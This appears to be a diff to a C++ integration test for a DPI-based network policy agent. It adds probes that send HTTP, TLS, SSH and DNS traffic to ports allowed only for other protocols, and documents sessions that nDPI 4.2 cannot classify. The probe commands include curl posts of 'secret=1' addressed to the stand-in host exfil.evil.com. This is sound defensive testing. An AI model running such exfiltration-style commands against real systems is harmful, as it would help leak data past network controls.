@@ -34,6 +34,8 @@ using testing::Lab;
 
 constexpr const char* ClientAIp = "10.214.0.11";
 constexpr const char* ClientBIp = "10.214.0.12";
+constexpr const char* ClientCIp = "10.214.0.13";  // probes: other protocols to the servers
+constexpr const char* ClientDIp = "10.214.0.14";  // sessions nDPI 4.2 cannot classify
 constexpr const char* ServerIp = "10.214.0.20";
 
 struct Scenario {
@@ -182,8 +184,9 @@ std::vector<Scenario> scenarios() {
        "HTTP",
        [](auto& s) { s.memcached(11211); },
        {"bash", "-c",
-        "echo session-ok > /tmp/matrix-$$ && memccp --servers={server}:11211 /tmp/matrix-$$ && "
-        "memcstat --servers={server}:11211 | grep -q pid && echo stored; rm -f /tmp/matrix-$$"},
+        "cd \"$(mktemp -d)\" && echo session-ok > matrix && memccp --servers={server}:11211 "
+        "matrix && memcstat --servers={server}:11211 | grep -q pid && echo stored; "
+        "rm -rf \"$PWD\""},
        "stored"},
       {"MQTT",
        "MQTT",
@@ -213,6 +216,79 @@ std::vector<Scenario> scenarios() {
        [](auto& s) { s.amqp(5672); },
        {"amqp-declare-queue", "-u", "amqp://guest:guest@{server}:5672/%2f", "-q", "matrix"},
        "matrix"},
+  };
+}
+
+// What a client that wants another protocol through sends to a server's port, where its rule
+// allows only the server's protocol: a sample of the steering class, live.
+struct Probe {
+  std::string name;
+  uint16_t port;
+  std::string judged;  // what the violation must name: what the bytes really are
+  std::vector<std::string> client;
+  bool zeroBytes = true;  // nDPI decides from the client's first bytes: none may arrive
+};
+
+std::vector<Probe> probes() {
+  const std::vector<std::string> post = {
+      "curl", "-s", "-m", "3", "-H", "Host: exfil.evil.com", "--data", "secret=1"};
+  const auto http = [&](uint16_t port) {
+    auto argv = post;
+    argv.push_back("http://{server}:" + std::to_string(port) + "/upload");
+    return argv;
+  };
+  const auto https = [](uint16_t port) {
+    return std::vector<std::string>{"curl",
+                                    "-sk",
+                                    "-m",
+                                    "3",
+                                    "--resolve",
+                                    "exfil.evil.com:" + std::to_string(port) + ":{server}",
+                                    "https://exfil.evil.com:" + std::to_string(port) + "/"};
+  };
+  return {
+      {"HTTP to PostgreSQL", 5432, "HTTP", http(5432)},
+      {"HTTP to Redis", 6379, "HTTP", http(6379)},
+      {"HTTP to memcached", 11211, "HTTP", http(11211)},
+      {"TLS to PostgreSQL", 5432, "TLS", https(5432)},
+      {"TLS to MQTT", 1883, "TLS", https(1883)},
+      {"SSH to PostgreSQL",
+       5432,
+       "SSH",
+       {"ssh", "-p", "5432", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+        "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "root@{server}", "true"}},
+      // nDPI 4.2 reads DNS only on its own ports: elsewhere it is Unknown, and what passes while
+      // nDPI tries is reported, not prevented.
+      {"DNS to AMQP",
+       5672,
+       "Unknown",
+       {"dig", "+tcp", "+time=2", "+tries=1", "-p", "5672", "@{server}", "api.matrix.test"},
+       false},
+  };
+}
+
+// Real sessions of proven protocols that nDPI 4.2 does not classify (dpi/proven_protocols'
+// limits): under a rule naming their protocol they pass while nDPI tries, and are reported as
+// denied when the flow ends. The test keeps the documented limits true.
+struct Limit {
+  std::string name;
+  uint16_t port;
+  std::vector<std::string> client;
+  std::string expect;
+};
+
+std::vector<Limit> limits() {
+  return {
+      {"Redis, a GET first", 6379, {"redis-cli", "-h", "{server}", "GET", "matrix"}, "session-ok"},
+      {"memcached, a single get",
+       11211,
+       {"memccat", "--servers={server}:11211", "matrix"},
+       "session-ok"},
+      {"PostgreSQL without SSLRequest",
+       5432,
+       {"env", "PGSSLMODE=disable", "PGCONNECT_TIMEOUT=5", "psql", "-h", "{server}", "-U",
+        "postgres", "-At", "-c", "select 'no-ssl'"},
+       "no-ssl"},
   };
 }
 
@@ -304,6 +380,8 @@ class ProtocolMatrix : public ::testing::Test {
     lab_ = std::make_unique<Lab>();
     clientA_ = &lab_->addHost("clienta", std::string(ClientAIp) + "/24");
     clientB_ = &lab_->addHost("clientb", std::string(ClientBIp) + "/24");
+    clientC_ = &lab_->addHost("clientc", std::string(ClientCIp) + "/24");
+    clientD_ = &lab_->addHost("clientd", std::string(ClientDIp) + "/24");
     server_ = &lab_->addHost("server", std::string(ServerIp) + "/24");
     agent_ = std::make_unique<testing::LiveAgent>(*lab_);
   }
@@ -320,6 +398,8 @@ class ProtocolMatrix : public ::testing::Test {
   std::unique_ptr<Lab> lab_;
   Host* clientA_ = nullptr;
   Host* clientB_ = nullptr;
+  Host* clientC_ = nullptr;
+  Host* clientD_ = nullptr;
   Host* server_ = nullptr;
   std::unique_ptr<testing::LiveAgent> agent_;
 };
@@ -345,6 +425,9 @@ TEST_F(ProtocolMatrix, RealSessionsAreJudgedAsTheirProtocolAndCutUnderAnother) {
   ASSERT_TRUE(agent_->start(policyFor(all),
                             {{clientA_, {{"app", "client-a"}}},
                              {clientB_, {{"app", "client-b"}}},
+                             // C and D have A's rules: each port allows only its own protocol.
+                             {clientC_, {{"app", "client-a"}, {"role", "prober"}}},
+                             {clientD_, {{"app", "client-a"}, {"role", "limits"}}},
                              {server_, {{"app", "server"}}}},
                             &why))
       << why;
@@ -403,6 +486,50 @@ TEST_F(ProtocolMatrix, RealSessionsAreJudgedAsTheirProtocolAndCutUnderAnother) {
     EXPECT_EQ(outcome.deniedAs, s.protocol) << s.name << ": " << line->dump();
     EXPECT_EQ((*line)["action"], "drop");
   }
+  // The steering class, live: other protocols sent by C to ports whose rule allows only the
+  // server's own protocol.
+  const auto sample = probes();
+  std::map<std::string, std::string> probedAs;
+  for (const auto& probe : sample) {
+    std::vector<std::string> argv;
+    for (const auto& arg : probe.client) {
+      argv.push_back(substitute(arg, servers.sshClientKey()));
+    }
+    lab_->exec(*clientC_, argv, 15);
+    const auto line = agent_->violation([&](const json& v) {
+      return v["src"]["endpoint"] == "clientc" && v["dst"]["port"] == probe.port &&
+             v.value("protocol", "") == probe.judged;
+    });
+    ASSERT_TRUE(line) << probe.name << ": no violation naming " << probe.judged << "\n"
+                      << [&] {
+                           std::string lines;
+                           for (const auto& v : agent_->violations()) {
+                             lines += v.dump() + "\n";
+                           }
+                           return lines;
+                         }();
+    probedAs[probe.name] = line->value("protocol", "");
+  }
+
+  // What nDPI 4.2 cannot classify of the proven protocols, from D.
+  std::map<std::string, bool> limitCompleted;
+  for (const auto& limit : limits()) {
+    std::vector<std::string> argv;
+    for (const auto& arg : limit.client) {
+      argv.push_back(substitute(arg, servers.sshClientKey()));
+    }
+    const auto result = lab_->exec(*clientD_, argv, 20);
+    limitCompleted[limit.name] =
+        result.exitCode == 0 && result.out.find(limit.expect) != std::string::npos;
+    EXPECT_TRUE(limitCompleted[limit.name]) << limit.name << ":\n" << result.out << result.err;
+    const auto line = agent_->violation([&](const json& v) {
+      return v["src"]["endpoint"] == "clientd" && v["dst"]["port"] == limit.port;
+    });
+    ASSERT_TRUE(line) << limit.name << ": judged as its protocol after all? Update the limits in "
+                      << "dpi/proven_protocols.cc and docs/policy.md";
+    EXPECT_EQ(line->value("protocol", ""), "Unknown") << line->dump();
+  }
+
   // Everything the flows passed while classifying has reached the server by now.
   std::this_thread::sleep_for(std::chrono::milliseconds(200));
   tcpdump.stop(5);
@@ -419,6 +546,22 @@ TEST_F(ProtocolMatrix, RealSessionsAreJudgedAsTheirProtocolAndCutUnderAnother) {
     }
   }
 
+  std::map<std::string, uint64_t> probeBytes;
+  for (const auto& probe : sample) {
+    // One probe per port and transport carries its own bytes only where no other probe shares
+    // the port: count per port, then expect zero wherever every probe there should deliver none.
+    probeBytes[probe.name] = bytesDelivered(capture, ClientCIp, probe.port, false);
+  }
+  for (const auto& probe : sample) {
+    bool allZero = true;
+    for (const auto& other : sample) {
+      allZero = allZero && (other.port != probe.port || other.zeroBytes);
+    }
+    if (allZero) {
+      EXPECT_EQ(probeBytes[probe.name], 0u) << probe.name;
+    }
+  }
+
   std::ostringstream table;
   table << std::left << std::setw(12) << "protocol" << std::setw(14) << "judged as" << std::setw(11)
         << "completed" << std::setw(13) << "denied as"
@@ -430,6 +573,18 @@ TEST_F(ProtocolMatrix, RealSessionsAreJudgedAsTheirProtocolAndCutUnderAnother) {
           << "\n";
   }
   std::cout << "protocol matrix:\n" << table.str();
+  std::ostringstream probeTable;
+  for (const auto& probe : sample) {
+    probeTable << "  " << std::setw(22) << probe.name << " judged as " << std::setw(8)
+               << probedAs[probe.name] << " bytes at the server on port " << probe.port << ": "
+               << probeBytes[probe.name] << "\n";
+  }
+  std::cout << "steering sample (live):\n" << probeTable.str();
+  std::cout << "limits (judged Unknown, documented):\n";
+  for (const auto& limit : limits()) {
+    std::cout << "  " << limit.name << ": session "
+              << (limitCompleted[limit.name] ? "completed" : "failed") << "\n";
+  }
 }
 
 }  // namespace
